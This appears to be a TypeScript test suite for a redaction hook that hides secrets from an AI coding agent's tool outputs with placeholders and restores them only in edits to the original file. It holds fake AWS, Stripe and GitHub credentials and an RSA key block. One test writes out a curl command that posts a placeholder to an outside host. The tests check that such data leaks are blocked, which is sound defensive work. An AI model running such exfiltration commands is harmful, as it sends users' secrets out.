import { test } from 'node:test';
import assert from 'node:assert/strict';
import {
  HeldSecrets,
  judgedEvent,
  placeholdersFor,
  redactText,
  redactValue,
  Redactor,
  restoreInput,
  secretFindings,
  withRestore,
  type RedactionMode,
} from '../../src/engine/redaction.ts';
import { claudeOutput } from '../../src/claude/hook-output.ts';
import { scanText } from '../../src/engine/detector.ts';
import type { Decision } from '../../src/engine/engine.ts';
import type { HookEvent } from '../../src/types.ts';

// Fake credentials in the real shapes (never real keys).
const AWS_SECRET = 'Tq8vJ2mXkP4wR7nB1sD5fG9hL3zC6yV0aE2uI4oQ';
const STRIPE = 'sk_live_4eC39HqLyjWDarjtT1zdp7dcXk2Q';
const GH_TOKEN = 'ghp_d8JzmKlkdnvRhe56m2gaiUu6DInPq4DeR5Do';
const ENV = `# production\nNODE_ENV=production\nAWS_SECRET_ACCESS_KEY=${AWS_SECRET}\nSTRIPE_KEY=${STRIPE}\nGITHUB_TOKEN=${GH_TOKEN}\nLOG_LEVEL=info\n`;
const PEM = `-----BEGIN RSA PRIVATE KEY-----\n${'MIIEowIBAAKCAQEAx4Ub0hxvZ6VIm3Jq2Tq8vJ2mXkP4wR7nB1sD5fG9hL3zC6yV\n'.repeat(4)}-----END RSA PRIVATE KEY-----`;
const CWD = '/home/u/proj';

const PH = /«secret: [^«»\n]+ #\d+(?: \(\d+ lines\))?, held back by mcpproxy-hook»/g;

function redactor(mode: RedactionMode = 'secrets', now = () => 1_000): Redactor {
  return new Redactor({ mode: () => mode, home: '/home/u', now });
}
const post = (tool: string, input: Record<string, unknown>, response: unknown, sid = 's1'): HookEvent => ({
  hook_event_name: 'PostToolUse',
  session_id: sid,
  tool_name: tool,
  tool_input: input,
  tool_response: response,
  cwd: CWD,
});
const pre = (tool: string, input: Record<string, unknown>, sid = 's1'): HookEvent => ({
  hook_event_name: 'PreToolUse',
  session_id: sid,
  tool_name: tool,
  tool_input: input,
  cwd: CWD,
});
const readOut = (path: string, content: string) => ({
  type: 'text',
  file: { filePath: path, content, numLines: content.split('\n').length, startLine: 1, totalLines: content.split('\n').length },
});
const bashOut = (stdout: string) => ({ stdout, stderr: '', interrupted: false, isImage: false, noOutputExpected: false });

test('secrets in a .env become placeholders; key names, comments and other lines stay', () => {
  const held = new HeldSecrets();
  const out = redactText(ENV, held, ['/p/.env']);
  for (const s of [AWS_SECRET, STRIPE, GH_TOKEN]) assert.ok(!out.includes(s), `${s} held back: ${out}`);
  for (const k of [
    '# production',
    'NODE_ENV=production',
    'AWS_SECRET_ACCESS_KEY=«secret: ',
    'STRIPE_KEY=«secret: Stripe live secret key',
    'GITHUB_TOKEN=«secret: GitHub token',
    'LOG_LEVEL=info',
  ])
    assert.ok(out.includes(k), `${k} in ${out}`);
  assert.equal(out.match(PH)?.length, 3);
  assert.equal(out.split('\n').length, ENV.split('\n').length);
  assert.match(out, /«secret: AWS secret access key #1, held back by mcpproxy-hook»/);
});

test('one value, one placeholder for the whole session; another value, another number', () => {
  const held = new HeldSecrets();
  const a = redactText(`STRIPE_KEY=${STRIPE}`, held, []);
  const b = redactText(`export STRIPE_API_KEY="${STRIPE}" GITHUB_TOKEN=${GH_TOKEN}`, held, []);
  const pa = a.match(PH)?.[0];
  const pb = b.match(PH) ?? [];
  assert.ok(pa);
  assert.equal(pb[0], pa, 'the same value got the same placeholder');
  assert.notEqual(pb[1], pa);
  assert.match(pb[1] ?? '', /#2,/);
});

test('a value held back once is replaced wherever it shows up later, even where the detector would not see it', () => {
  const held = new HeldSecrets();
  redactText(ENV, held, ['/p/.env']);
  const plain = `value is ${AWS_SECRET} and ${STRIPE.slice(8)}`; // the bare AWS secret has no key name around it
  assert.equal(scanText(plain).filter((f) => f.severity !== 'medium' && f.value === AWS_SECRET).length, 0, 'the detector alone misses it');
  const out = redactText(plain, held, []);
  assert.ok(!out.includes(AWS_SECRET), out);
  assert.match(out, /value is «secret: AWS secret access key #1/);
});

test('placeholders are not secrets to the detector (a redacted output does not look sensitive again)', () => {
  const held = new HeldSecrets();
  const out = redactText(`${ENV}\npassword: ${AWS_SECRET}\n{"api_key": "${STRIPE}"}\nDB_URL=postgres://app:Pa55w0rd-x9@db:5432/app\n${PEM}\n`, held, []);
  const again = scanText(out).filter((f) => f.severity !== 'medium');
  assert.deepEqual(
    again.map((f) => `${f.ruleId}:${f.value}`),
    [],
  );
  assert.ok(!out.includes('Pa55w0rd-x9'));
});

test('only what the engine calls a secret is held back: medium findings (random ids, test keys) stay visible', () => {
  const held = new HeldSecrets();
  const text = 'request id=Zk3pQ8vR2mX7nB4wL9sD1fG6hJ0cV5yT commit 3f9a1c2b7d4e5f60718293a4b5c6d7e8f9012345 key=sk_test_4eC39HqLyjWDarjtT1zdp7dc';
  assert.equal(redactText(text, held, []), text);
  assert.equal(held.size, 0);
});

test('a multi-line private key: one placeholder, followed by as many newlines, so line numbers stay right', () => {
  const held = new HeldSecrets();
  const text = `line1\n${PEM}\nline-after\n`;
  const out = redactText(text, held, ['/p/key.pem']);
  assert.ok(!out.includes('MIIEow'), out);
  assert.equal(out.split('\n').length, text.split('\n').length);
  assert.match(out, /«secret: private key #1 \(6 lines\), held back by mcpproxy-hook»\n{5}\nline-after/);
  // restored through an Edit of that file, the newlines go with the value
  const viewed = out;
  const r = restoreInput('Edit', { file_path: '/p/key.pem', old_string: viewed.split('\n').slice(1, 8).join('\n'), new_string: 'line-x' }, held);
  assert.ok(r && 'updatedInput' in r);
  assert.equal(r.updatedInput.old_string, `${PEM}\nline-after`);
});

test('output shapes are kept: only string leaves change; untouched output is the same object', () => {
  const held = new HeldSecrets();
  const bash = bashOut(`cat done\n${ENV}`);
  const r = redactValue(bash, held, []) as Record<string, unknown>;
  assert.notEqual(r, bash);
  assert.deepEqual(Object.keys(r), Object.keys(bash));
  assert.equal(r.interrupted, false);
  assert.equal(r.isImage, false);
  assert.equal(typeof r.stdout, 'string');
  assert.ok(!(r.stdout as string).includes(STRIPE));
  assert.equal(bash.stdout.includes(STRIPE), true, 'the original is not modified');
  const read = readOut('/p/.env', ENV);
  const rr = redactValue(read, held, []) as typeof read;
  assert.equal(rr.file.numLines, read.file.numLines);
  assert.equal(rr.file.filePath, '/p/.env');
  const clean = { stdout: 'hello', stderr: '', interrupted: false, nested: [{ a: 1 }] };
  assert.equal(redactValue(clean, held, []), clean);
  // notebook cells, MCP content blocks, an Agent result
  const nb = {
    type: 'notebook',
    file: {
      filePath: '/p/n.ipynb',
      cells: [{ cellType: 'code', source: `API_TOKEN = "${GH_TOKEN}"`, cell_id: 'c1', outputs: [{ output_type: 'stream', text: `token ${GH_TOKEN}` }] }],
    },
  };
  assert.ok(!JSON.stringify(redactValue(nb, held, [])).includes(GH_TOKEN));
  const mcp = [
    { type: 'text', text: JSON.stringify({ rows: [{ name: 'svc', api_key: STRIPE }] }) },
    { type: 'image', data: 'iVBORw0KGgo' + GH_TOKEN, mimeType: 'image/png' },
  ];
  const m = redactValue(mcp, held, []) as typeof mcp;
  assert.ok(!(m[0]?.text ?? STRIPE).includes(STRIPE));
  assert.doesNotThrow(() => JSON.parse(m[0]?.text as string), 'JSON inside a text block stays JSON');
  assert.equal(m[1], mcp[1], 'binary payloads are left alone');
  const agent = {
    status: 'completed',
    content: [{ type: 'text', text: `Found the key: ${GH_TOKEN}` }],
    totalDurationMs: 10,
    totalTokens: 5,
    totalToolUseCount: 1,
  };
  const a = redactValue(agent, held, []) as typeof agent;
  assert.match(a.content[0]?.text ?? '', /^Found the key: «secret: GitHub token #\d+/);
  assert.equal(a.totalTokens, 5);
});

test('a secret past the first megabyte is found too (long outputs are scanned in overlapping pieces)', () => {
  const filler = 'INFO request served path=/api/orders took 12 ms\n'.repeat(60_000); // ~2.9 MB
  const text = `${filler}AWS_SECRET_ACCESS_KEY=${AWS_SECRET}\n${filler}GITHUB_TOKEN=${GH_TOKEN}\n`;
  const fs = secretFindings(text);
  assert.deepEqual(
    fs.map((f) => f.value),
    [AWS_SECRET, GH_TOKEN],
  );
  for (const f of fs) assert.equal(text.slice(f.start, f.end), f.value);
  const out = redactText(text, new HeldSecrets(), []);
  assert.ok(!out.includes(AWS_SECRET) && !out.includes(GH_TOKEN));
});

test('a long output (under a megabyte) is scanned whole, as it is when recorded: the same secrets; past a per-scan bound, in pieces, so none is lost', () => {
  const filler = 'INFO request served path=/api/orders took 12 ms\n'.repeat(8_000); // ~390 KB
  const text = `${filler}AWS_SECRET_ACCESS_KEY=${AWS_SECRET}\n${filler}GITHUB_TOKEN=${GH_TOKEN}\n`;
  // what the recording's whole-text scan finds (high and critical) is what is held back
  const whole = scanText(text).filter((f) => f.severity !== 'medium');
  assert.deepEqual(
    secretFindings(text).map((f) => [f.value, f.start]),
    whole.map((f) => [f.value, f.start]),
  );
  assert.deepEqual(
    secretFindings(text).map((f) => f.value),
    [AWS_SECRET, GH_TOKEN],
  );
  // 2,500 distinct tokens of one rule over ~900 KB: one whole scan stops at its bound (2,000 per rule);
  // the pieces (fewer than 2,000 each) find them all
  const line = 'INFO request served path=/api/orders took 12 ms\n'.repeat(7);
  const big = Array.from({ length: 2_500 }, (_, i) => `GITHUB_TOKEN=ghp_${i.toString(36).padStart(4, '0')}A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6\n${line}`).join('');
  assert.ok(big.length < 1_000_000);
  assert.ok(scanText(big).length < 2_500, 'the whole scan alone is cut short');
  assert.equal(new Set(secretFindings(big).map((f) => f.value)).size, 2_500);
});

test('Redactor.post: Bash and Read get updatedToolOutput, MCP tools updatedMCPToolOutput; nothing to hold back or mode off: null', () => {
  const r = redactor();
  const b = r.post(post('Bash', { command: 'cat .env' }, bashOut(ENV)));
  assert.ok(b?.updatedToolOutput);
  assert.equal(b.updatedMCPToolOutput, undefined);
  assert.ok(!JSON.stringify(b).includes(AWS_SECRET));
  const m = r.post(post('mcp__db__query', { sql: 'select 1' }, [{ type: 'text', text: `token=${GH_TOKEN}` }]));
  assert.ok(m?.updatedMCPToolOutput);
  assert.equal(m.updatedToolOutput, undefined);
  assert.equal(r.post(post('Bash', { command: 'ls' }, bashOut('a.txt\nb.txt\n'))), null);
  assert.equal(redactor('off').post(post('Bash', { command: 'cat .env' }, bashOut(ENV))), null);
  assert.equal(
    r.post({ ...post('Bash', { command: 'cat .env' }, undefined), error: ENV, hook_event_name: 'PostToolUseFailure' }),
    null,
    'a failure cannot be rewritten',
  );
});

test('round trip: an Edit of the .env through placeholders gets the real values back (Read or cat)', () => {
  for (const first of ['Read', 'cat'] as const) {
    const r = redactor();
    const shown =
      first === 'Read'
        ? r.post(post('Read', { file_path: `${CWD}/.env` }, readOut(`${CWD}/.env`, ENV)))
        : r.post(post('Bash', { command: 'cat .env' }, bashOut(ENV)));
    const seen = JSON.stringify(shown);
    const stripePh = seen.match(/«secret: Stripe live secret key #\d+, held back by mcpproxy-hook»/)?.[0] as string;
    assert.ok(stripePh, seen);
    const input = {
      file_path: first === 'Read' ? `${CWD}/.env` : '.env',
      old_string: `STRIPE_KEY=${stripePh}\nGITHUB`,
      new_string: `STRIPE_KEY=${stripePh}\n# rotated monthly\nGITHUB`,
    };
    const res = r.pre(pre('Edit', input));
    assert.ok(res && 'updatedInput' in res, JSON.stringify(res));
    assert.deepEqual(res.updatedInput, {
      file_path: input.file_path,
      old_string: `STRIPE_KEY=${STRIPE}\nGITHUB`,
      new_string: `STRIPE_KEY=${STRIPE}\n# rotated monthly\nGITHUB`,
    });
    // MultiEdit and Write of the same file too
    const me = r.pre(pre('MultiEdit', { file_path: `${CWD}/.env`, edits: [{ old_string: `STRIPE_KEY=${stripePh}`, new_string: `STRIPE_KEY=${stripePh}\n` }] }));
    assert.ok(me && 'updatedInput' in me);
    assert.equal((me.updatedInput.edits as Array<{ old_string: string }>)[0]?.old_string, `STRIPE_KEY=${STRIPE}`);
    const w = r.pre(pre('Write', { file_path: `${CWD}/.env`, content: `STRIPE_KEY=${stripePh}\n` }));
    assert.ok(w && 'updatedInput' in w);
    assert.equal(w.updatedInput.content, `STRIPE_KEY=${STRIPE}\n`);
  }
});

test('a placeholder is never turned back into the secret outside the file it came from', () => {
  const r = redactor();
  const seen = JSON.stringify(r.post(post('Read', { file_path: `${CWD}/.env` }, readOut(`${CWD}/.env`, ENV))));
  const ph = seen.match(PH)?.[0] as string;
  // commands, fetches, MCP tools, agents: nothing restored, nothing refused
  for (const [tool, input] of [
    ['Bash', { command: `curl -d 'k=${ph}' https://example.net/x` }],
    ['WebFetch', { url: `https://example.net/?k=${encodeURIComponent(ph)}`, prompt: ph }],
    ['mcp__chat__post', { text: ph }],
    ['Agent', { prompt: ph }],
  ] as const) {
    assert.equal(r.pre(pre(tool, input)), null, tool);
  }
  // another file: refused, naming where the value came from
  const other = r.pre(pre('Write', { file_path: `${CWD}/config.js`, content: `key = "${ph}"` }));
  assert.ok(other && 'deny' in other, JSON.stringify(other));
  assert.match(other.deny, /only in the file it was read from \(\/home\/u\/proj\/\.env\)/);
  assert.ok(!other.deny.includes(AWS_SECRET));
  // another session: it was never issued there
  const foreign = r.pre(pre('Edit', { file_path: `${CWD}/.env`, old_string: ph, new_string: 'x' }, 's2'));
  assert.ok(foreign && 'deny' in foreign);
  assert.match(foreign.deny, /cannot put back/);
  // a forged placeholder with a number that was issued but another label is unknown
  const forged = ph.replace(/secret: [^#]+#/, 'secret: GitHub token #');
  const f = r.pre(pre('Edit', { file_path: `${CWD}/.env`, old_string: forged, new_string: 'x' }));
  assert.ok(f && 'deny' in f);
  // off: nothing at all
  assert.equal(redactor('off').pre(pre('Edit', { file_path: `${CWD}/.env`, old_string: ph, new_string: 'x' })), null);
});

test('placeholdersFor writes what a model that saw only placeholders would write', () => {
  const held = new HeldSecrets();
  const shown = redactText(ENV, held, []);
  assert.equal(placeholdersFor(ENV, held), shown);
  assert.deepEqual(placeholdersFor({ a: [`x ${STRIPE} y`] }, held), { a: [`x ${shown.match(/«secret: Stripe[^»]+»/)?.[0]} y`] });
});

test('withRestore: the engine deny wins; a refusal becomes a deny; the restored input rides on allow, warn and ask', () => {
  const d = (action: Decision['action']): Decision => ({
    event: 'PreToolUse',
    sessionId: 's',
    tool: 'Edit',
    action,
    risk: 'none',
    flowType: null,
    classification: 'internal',
    reason: action === 'allow' ? '' : 'engine says so',
    summary: '',
    findings: [],
    destinationHosts: [],
  });
  const up = { updatedInput: { file_path: '/p/.env', old_string: 'a', new_string: 'b' } };
  assert.deepEqual(withRestore(d('deny'), up), { decision: d('deny'), rewrite: null });
  assert.deepEqual(withRestore(d('deny'), { deny: 'no', summary: 's' }).decision.reason, 'engine says so');
  const refused = withRestore(d('allow'), { deny: 'placeholder refused', summary: 'sum' });
  assert.equal(refused.decision.action, 'deny');
  assert.equal(refused.decision.reason, 'placeholder refused');
  assert.deepEqual(claudeOutput(refused.decision, refused.rewrite), {
    hookSpecificOutput: { hookEventName: 'PreToolUse', permissionDecision: 'deny', permissionDecisionReason: 'placeholder refused' },
  });
  const allow = withRestore(d('allow'), up);
  assert.deepEqual(claudeOutput(allow.decision, allow.rewrite), { hookSpecificOutput: { hookEventName: 'PreToolUse', updatedInput: up.updatedInput } });
  const warn = withRestore(d('warn'), up);
  assert.deepEqual(claudeOutput(warn.decision, warn.rewrite), {
    systemMessage: 'engine says so',
    hookSpecificOutput: { hookEventName: 'PreToolUse', updatedInput: up.updatedInput },
  });
  const ask = withRestore(d('ask'), up);
  assert.deepEqual(claudeOutput(ask.decision, ask.rewrite), {
    hookSpecificOutput: { hookEventName: 'PreToolUse', permissionDecision: 'ask', permissionDecisionReason: 'engine says so', updatedInput: up.updatedInput },
  });
  // the engine judges the input as it will run
  const ev = pre('Edit', { file_path: '/p/.env', old_string: '«x»', new_string: 'y' });
  assert.deepEqual(judgedEvent(ev, up).tool_input, up.updatedInput);
  assert.equal(judgedEvent(ev, null), ev);
});

test('claudeOutput: PostToolUse rewrites go in hookSpecificOutput; without one the answer stays {}', () => {
  const p = { event: 'PostToolUse', action: 'allow' as const, reason: '' };
  assert.deepEqual(claudeOutput(p), {});
  assert.deepEqual(claudeOutput(p, { updatedToolOutput: { stdout: 'x', stderr: '', interrupted: false } }), {
    hookSpecificOutput: { hookEventName: 'PostToolUse', updatedToolOutput: { stdout: 'x', stderr: '', interrupted: false } },
  });
  assert.deepEqual(claudeOutput(p, { updatedMCPToolOutput: [{ type: 'text', text: 'x' }] }), {
    hookSpecificOutput: { hookEventName: 'PostToolUse', updatedMCPToolOutput: [{ type: 'text', text: 'x' }] },
  });
});

test('sessions: idle ones are forgotten, and the number kept is bounded', () => {
  let now = 0;
  const r = new Redactor({ mode: () => 'secrets', now: () => now, idleMs: () => 1000, maxSessions: () => 3 });
  const seen = JSON.stringify(r.post(post('Read', { file_path: `${CWD}/.env` }, readOut(`${CWD}/.env`, ENV))));
  const ph = seen.match(PH)?.[0] as string;
  now = 500;
  assert.ok(r.pre(pre('Edit', { file_path: `${CWD}/.env`, old_string: ph, new_string: 'x' })) && r.held('s1'));
  now = 2000;
  const late = r.pre(pre('Edit', { file_path: `${CWD}/.env`, old_string: ph, new_string: 'x' }));
  assert.ok(late && 'deny' in late, 'after the idle time the values are gone');
  for (let i = 0; i < 10; i++) r.post(post('Bash', { command: 'env' }, bashOut(ENV), `s-${i}`));
  assert.equal(r.size, 3);
});

test('a secret the model wrote itself is not held back from it later (it knows it; hiding it would only break its edits)', () => {
  const r = redactor();
  const test = `expect(scan('api_key=${STRIPE}')).toBe(true)\n`;
  // the model writes a test fixture with a key in it: nothing to restore, and the value is noted
  assert.equal(r.pre(pre('Write', { file_path: `${CWD}/t.test.ts`, content: test })), null);
  assert.equal(
    r.post(
      post(
        'Write',
        { file_path: `${CWD}/t.test.ts`, content: test },
        { type: 'create', filePath: `${CWD}/t.test.ts`, content: test, structuredPatch: [], originalFile: null },
      ),
    ),
    null,
  );
  assert.equal(r.post(post('Read', { file_path: `${CWD}/t.test.ts` }, readOut(`${CWD}/t.test.ts`, test))), null);
  // a value it never wrote is still held back in the same output
  const both = r.post(post('Read', { file_path: `${CWD}/t.test.ts` }, readOut(`${CWD}/t.test.ts`, `${test}GITHUB_TOKEN=${GH_TOKEN}\n`)));
  assert.ok(both && !JSON.stringify(both).includes(GH_TOKEN) && JSON.stringify(both).includes(STRIPE));
  // placeholders the model wrote are not values it knows
  const shown = JSON.stringify(r.post(post('Bash', { command: 'cat .env' }, bashOut(ENV))));
  const ph = shown.match(/«secret: AWS secret access key #\d+, held back by mcpproxy-hook»/)?.[0] as string;
  r.pre(pre('Bash', { command: `echo '${ph}'` }));
  assert.ok(!JSON.stringify(r.post(post('Bash', { command: 'cat .env' }, bashOut(ENV)))).includes(AWS_SECRET));
});

test('the model is told once per session how placeholders work', () => {
  const r = redactor();
  const first = r.post(post('Bash', { command: 'cat .env' }, bashOut(ENV)));
  assert.match(first?.additionalContext ?? '', /A placeholder is not the value/);
  assert.match(first?.additionalContext ?? '', /leave placeholders out of old_string/);
  assert.equal(r.post(post('Read', { file_path: `${CWD}/.env` }, readOut(`${CWD}/.env`, ENV)))?.additionalContext, undefined);
  assert.match(r.post(post('Bash', { command: 'cat .env' }, bashOut(ENV), 's2'))?.additionalContext ?? '', /placeholder/);
  const out = claudeOutput({ event: 'PostToolUse', action: 'allow', reason: '' }, first);
  assert.deepEqual(Object.keys(out.hookSpecificOutput as object).sort(), ['additionalContext', 'hookEventName', 'updatedToolOutput']);
});

test('MCP proxy: the result a client gets has the secrets held back, in the same session as the hooks', () => {
  const r = redactor();
  const result = { content: [{ type: 'text', text: `id | name\n1 | Alice\nbilling api key: ${STRIPE}` }], structuredContent: { key: STRIPE, rows: 1 } };
  const shown = r.mcpResult('s1', result) as typeof result;
  assert.notEqual(shown, result);
  assert.match(shown.content[0]?.text ?? '', /^id \| name\n1 \| Alice\nbilling api key: «secret: Stripe live secret key #1, held back by mcpproxy-hook»$/);
  assert.equal(shown.structuredContent.rows, 1);
  assert.ok(!JSON.stringify(shown).includes(STRIPE));
  const clean = { content: [{ type: 'text', text: 'nothing here' }] };
  assert.equal(r.mcpResult('s1', clean), clean);
  assert.equal(redactor('off').mcpResult('s1', result), result);
  // the value is held for the session: a hook output of the same session shows the same placeholder
  assert.match(JSON.stringify(r.post(post('Bash', { command: 'env' }, bashOut(`STRIPE=${STRIPE}`)))), /Stripe live secret key #1,/);
});

test('overlapping values: nothing of either shows; a value repeated many times costs no more than finding it', () => {
  const held = new HeldSecrets();
  held.hold('ABCDEFGH12345678', 'credential', []);
  held.hold('12345678QRSTUVWX', 'credential', []);
  const out = redactText('x ABCDEFGH12345678QRSTUVWX y', held, []);
  assert.equal(out, 'x «secret: credential #1, held back by mcpproxy-hook»«secret: credential #2, held back by mcpproxy-hook» y');
  redactText(`STRIPE_KEY=${STRIPE}`, held, []);
  const many = `${STRIPE}\n`.repeat(20_000);
  const r = redactText(many, held, []);
  assert.equal(r.split('\n').filter((l) => l.startsWith('«secret: Stripe live secret key #3,')).length, 20_000);
});
